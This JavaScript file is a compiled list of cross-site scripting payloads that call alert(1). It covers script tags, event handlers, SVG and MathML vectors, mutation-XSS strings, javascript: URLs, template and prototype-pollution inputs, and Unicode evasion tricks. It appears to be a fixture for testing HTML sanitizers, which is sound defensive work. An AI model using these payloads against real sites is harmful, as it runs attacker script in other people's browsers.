// Ways known to make a page run what somebody wrote: if any of them works, it
// calls alert. Gathered by kind from what is published (OWASP's filter evasion
// sheet, PortSwigger's, cure53's, DOMPurify's tests); written anew and short.

const tags = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src="data:,alert(1)"></script>',
  '<script type=module>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src=javascript:parent.alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="data:text/css,*{}" onload=alert(1)>',
  '<style>@import "javascript:alert(1)";</style>',
  '<form action=javascript:alert(1)><input type=submit autofocus>',
  '<isindex action=javascript:alert(1) type=image>',
  '<plaintext><img src=x onerror=alert(1)>',
];

const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)//',
  '<img/src/onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div onpointerenter=alert(1)>x</div>',
  '<b style="animation:pulse 1s" onanimationstart=alert(1)>x</b>',
  '<x contenteditable onbeforeinput=alert(1)>x',
  '<dialog open onclose=alert(1)><form method=dialog>',
  '<button popovertarget=x>x</button><i popover id=x onbeforetoggle=alert(1)>',
  '" onfocus=alert(1) autofocus x="',
  "' onmouseover='alert(1)",
  '` onerror=alert(1) `',
];

const foreign = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=x onerror=alert(1) /></svg>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<a href="x" title="`<img src=x onerror=alert(1)>`">',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  '[x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
];

const codes = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
  '__proto__',
  'constructor',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '\');alert(1);//',
  '";alert(1);"',
  '</li></ol><img src=x onerror=alert(1)>',
  '</textarea><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
];

const characters = [
  '\uff1cimg src=x onerror=alert(1)\uff1e', // full width, which NFKC makes < and >
  '\u2039img src=x onerror=alert(1)\u203a',
  '<img\u00a0src=x\u2003onerror=alert(1)>',
  '<\u200bimg src=x onerror=alert(1)>',
  '\ufeff<img src=x onerror=alert(1)>',
  '\u202e>1(trela=rorreno x=crs gmi<', // right to left
  '\u2066<img src=x onerror=alert(1)>\u2069',
  '<img src=x onerror=alert(1)>\u0301\u0301\u0301',
  '👩\u200d💻<img src=x onerror=alert(1)>',
  '<ımg src=x onerror=alert(1)>', // a dotless i, which some foldings make an i
];

export const injections = [...tags, ...handlers, ...foreign, ...mutations, ...addresses, ...codes, ...characters];
